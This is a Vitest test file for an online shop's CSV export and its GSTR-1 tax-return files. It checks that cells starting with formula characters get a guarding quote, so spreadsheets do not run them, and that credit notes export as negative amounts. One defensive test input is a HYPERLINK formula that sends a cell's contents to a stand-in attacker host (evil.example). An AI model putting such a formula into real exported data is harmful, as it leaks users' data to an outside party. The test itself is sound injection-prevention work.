import { describe, expect, it } from "vitest";
import { csvDecimal, csvLine, csvText, csvTextOf } from "./csv.js";
import { b2csCsv, hsnCsv } from "./gstr1.js";
import { buildTaxDocument } from "./tax-documents.js";

describe("the shop's CSV writer", () => {
  it("writes a text cell that a spreadsheet would run as a formula with a quote before it", () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    expect(csvLine([formula])).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
    expect(csvText([["+1+1"], ["-1+1"], ["@SUM(A1)"], ["\t=1"], ["\r=1"]])).toBe(
      "'+1+1\r\n'-1+1\r\n'@SUM(A1)\r\n'\t=1\r\n\"'\r=1\"\r\n",
    );
  });

  it("leaves text that starts otherwise as it is", () => {
    expect(csvLine(["Asha Rao", "PL-260101-ABC123", "1+1", " =1", "'quoted"])).toBe(
      "Asha Rao,PL-260101-ABC123,1+1, =1,'quoted\r\n",
    );
  });

  it("writes numbers as numbers, negative ones too, and amounts to their decimals", () => {
    expect(csvLine([-120.5, 0, 3, csvDecimal(-120.5, 2), csvDecimal(0, 2)])).toBe("-120.5,0,3,-120.50,0.00\r\n");
  });

  it("tells a negative amount the shop wrote from a name that looks like one", () => {
    expect(csvText([["-120.50", csvDecimal(-120.5, 2)]])).toBe("'-120.50,-120.50\r\n");
  });

  it("reads back what it wrote: the quote comes off only before a formula's start", () => {
    for (const text of ["-Sale-", "=1+1", "+91 98450 00000", "@home", "\tindented", "Asha", "'quoted", ""]) {
      const written = csvLine([text])
        .replace(/\r\n$/, "")
        .replace(/^"(.*)"$/s, "$1")
        .replace(/""/g, '"');
      expect(csvTextOf(written)).toBe(text);
    }
    expect(csvTextOf("'plain")).toBe("'plain");
  });
});

describe("GSTR-1 files", () => {
  // a return in a month with no sale: its credit note is all the month has
  const creditNote = buildTaxDocument({
    kind: "credit_note",
    number: "CN/26-27/000001",
    againstNumber: "PL/26-27/000001",
    issuedAt: new Date("2026-11-02T10:00:00Z"),
    publicOrderId: "PL-261001-ABCDEF",
    seller: { name: "Pallu Handlooms", address: "Chennai 600004", state: "Tamil Nadu", gstin: "33AAAAA0000A1Z0" },
    shopper: {
      name: "Meera",
      addressLine1: "12 Temple Street",
      city: "Chennai",
      state: "Tamil Nadu",
      pinCode: "600004",
      phoneNumber: "9876543210",
    },
    lines: [{ description: "Silk saree", hsnCode: "5007", quantity: 1, unitPricePaise: 12_600 }],
  });

  it("write a month of returns as negative numbers, not as guarded text", () => {
    expect(b2csCsv([creditNote]).split("\r\n")[1]).toBe("OE,33-Tamil Nadu,,5,-120.00,0.00,");
    expect(hsnCsv([creditNote]).split("\r\n")[1]).toBe("5007,,PCS-PIECES,-1,-126.00,5,-120.00,0.00,-3.00,-3.00,0.00");
  });
});
